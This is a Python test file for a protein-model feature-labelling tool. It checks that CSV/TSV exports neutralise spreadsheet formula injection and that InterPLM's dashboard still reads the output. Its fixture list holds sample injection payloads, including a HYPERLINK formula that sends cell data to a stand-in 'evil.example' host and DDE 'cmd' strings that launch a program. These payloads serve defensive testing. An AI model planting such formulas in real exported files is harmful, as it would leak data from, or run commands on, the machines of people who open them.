"""Spreadsheet formula injection: every CSV/TSV we write neutralises formula-like text cells (OWASP),
numbers stay numbers, and InterPLM's dashboard still reads LLM_Autointerp.csv."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from storage.csv_safe import spreadsheet_cell, write_table
from storage.workspace import Workspace

# Each starts the way a spreadsheet would run it as a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_a_quote_prefix(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "cell"), [
    (-0.12, -0.12), (0.5, 0.5), (-3, -3), (7, 7), (None, ""), (float("nan"), ""), (True, "true"),
    (False, "false"), ("Zinc finger", "Zinc finger"), ("a = b", "a = b"), ("'quoted", "'quoted"),
    ("", ""),
])
def test_numbers_and_plain_text_are_kept(value, cell) -> None:
    assert spreadsheet_cell(value) == cell


def test_write_table_quotes_and_neutralises_every_cell() -> None:
    text = write_table(["=head", "b"], [["=1+1", -0.5], ['say "hi", then\nbye', None]], delimiter="\t")
    rows = list(csv.reader(io.StringIO(text), delimiter="\t"))
    assert rows == [["'=head", "b"], ["'=1+1", "-0.5"], ['say "hi", then\nbye', ""]]


def _seed_formula_labels(ws: Workspace) -> None:
    with ws.db() as db, db.transaction():
        db.table("saes").insert({
            "sae_id": "demo", "architecture": "topk", "d_in": 320, "d_sae": 64, "k": 8,
            "plm_model": "esm2_t6_8M_UR50D", "layer": 4, "source": "trained", "path": "saes/demo",
            "weights_hash": "0" * 64, "cfg": "{}", "created_at": "2025-01-01T00:00:00+00:00",
        })
        db.table("runs").insert({"run_id": "r1", "sae_id": "demo", "kind": "label", "status": "completed"})
        for feature, text in enumerate(FORMULAS):
            db.table("labels").insert({
                "sae_id": "demo", "feature": feature, "status": "ok", "label": text, "description": text,
                "concepts": json.dumps([]), "pearson": [0.82, -0.12, 0.6, -0.5, 0.0, 0.7][feature],
                "spearman": -0.1, "n_heldout": 12, "validated": int(feature in (0, 2, 5)),
                "backend": "baseline", "run_id": "r1", "created_at": "2025-01-01T00:00:00+00:00",
            })
        db.table("labels").insert({
            "sae_id": "demo", "feature": 9, "status": "ok", "label": "plain", "description": "Zinc finger",
            "concepts": "[]", "pearson": None, "n_heldout": 12, "validated": 0, "backend": "baseline",
            "run_id": "r1", "created_at": "2025-01-01T00:00:00+00:00",
        })


def _load_like_interplm_dashboard(path) -> pd.DataFrame:
    """InterPLM's dashboard (interplm/dashboard/dashboard_cache.py `_load_llm_autointerp`): the file
    opened as text, `pd.read_csv`, then `set_index("Feature")` unless already the index."""
    with open(path) as handle:
        df = pd.read_csv(handle)
    if df.index.name != "Feature":
        df = df.set_index("Feature")  # InterPLM writes inplace=True (deprecated in pandas 3.1)
    return df


def test_interplm_export_is_inert_and_still_read_by_the_dashboard(workspace, cli, tmp_path) -> None:
    _seed_formula_labels(workspace)
    out = tmp_path / "interplm"
    result = cli("export", "demo", "--format", "interplm", "--out", out, "--workspace", workspace.root)
    assert result.exit_code == 0, result.stderr
    with open(out / "LLM_Autointerp.csv", newline="") as handle:
        raw = list(csv.reader(handle))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in raw for cell in row[:2])
    df = _load_like_interplm_dashboard(out / "LLM_Autointerp.csv")
    assert list(df.columns) == ["Summary", "Correlation"]
    assert pd.api.types.is_float_dtype(df["Correlation"])  # numeric, negative ones included
    assert pd.api.types.is_integer_dtype(df.index)
    assert df.loc[1, "Correlation"] == pytest.approx(-0.12)
    assert df.loc[3, "Correlation"] == pytest.approx(-0.5)
    assert 9 not in df.index  # unscored: no row (a blank Correlation would show as "score=nan")
    assert not df["Correlation"].isna().any()
    assert f"{df.loc[1]['Correlation']:.2f}" == "-0.12"  # the dashboard's own formatting
    assert sorted(df.query("Correlation > 0.5").index) == [0, 2, 5]  # the dashboard's feature filter
    for feature, text in enumerate(FORMULAS):  # the dashboard opens the file with universal newlines
        assert df.loc[feature, "Summary"] == "'" + text.replace("\r", "\n")


def test_query_csv_is_inert_and_keeps_numbers(workspace, cli) -> None:
    _seed_formula_labels(workspace)
    result = cli("query", "--workspace", workspace.root, "--csv", "--limit", "50")
    assert result.exit_code == 0, result.stderr
    df = pd.read_csv(io.StringIO(result.stdout))
    assert pd.api.types.is_float_dtype(df["spearman"]) and pd.api.types.is_float_dtype(df["pearson"])
    by_feature = df.set_index("feature")
    assert (by_feature.loc[list(range(len(FORMULAS))), "spearman"] == -0.1).all()
    assert by_feature.loc[1, "pearson"] == pytest.approx(-0.12)
    for feature, text in enumerate(FORMULAS):
        assert by_feature.loc[feature, "label"] == "'" + text
        assert by_feature.loc[feature, "description"] == "'" + text
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    assert all(not cell.startswith("-") or float(cell) < 0 for row in rows[1:] for cell in row)
